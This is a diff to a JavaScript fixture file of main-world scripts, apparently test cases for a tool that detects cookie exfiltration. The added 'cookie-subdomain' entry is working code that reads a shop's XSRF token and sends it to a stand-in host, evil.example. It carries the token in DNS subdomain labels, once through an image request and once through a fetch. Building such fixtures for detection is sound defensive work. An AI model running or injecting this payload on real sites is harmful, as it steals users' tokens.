@@ -693,6 +693,16 @@ export const MAIN_WORLD_SCRIPTS = {
    * inline script that sends whatever it finds there — code that itself read no cookie — in a URL (fetch)
    * and in a body (sendBeacon).
    */
+  /**
+   * The readable cookie (the shop's XSRF token) sent in a subdomain of the collector's, which its name server logs:
+   * whole in one label by an image, split over two by a fetch.
+   */
+  'cookie-subdomain': `(() => {
+  const token = (/(?:^|; )XSRF-TOKEN=([^;]+)/.exec(document.cookie) || [])[1] || 'none';
+  new Image().src = 'https://' + token + '.evil.example/p.gif';
+  fetch('https://' + token.slice(0, 16) + '.' + token.slice(16) + '.evil.example/c', { mode: 'no-cors' }).catch(() => {});
+})();`,
+
   'relayed-cookie': `(() => {
   document.documentElement.dataset.k = encodeURIComponent(document.cookie);
   const sender = document.createElement('script');
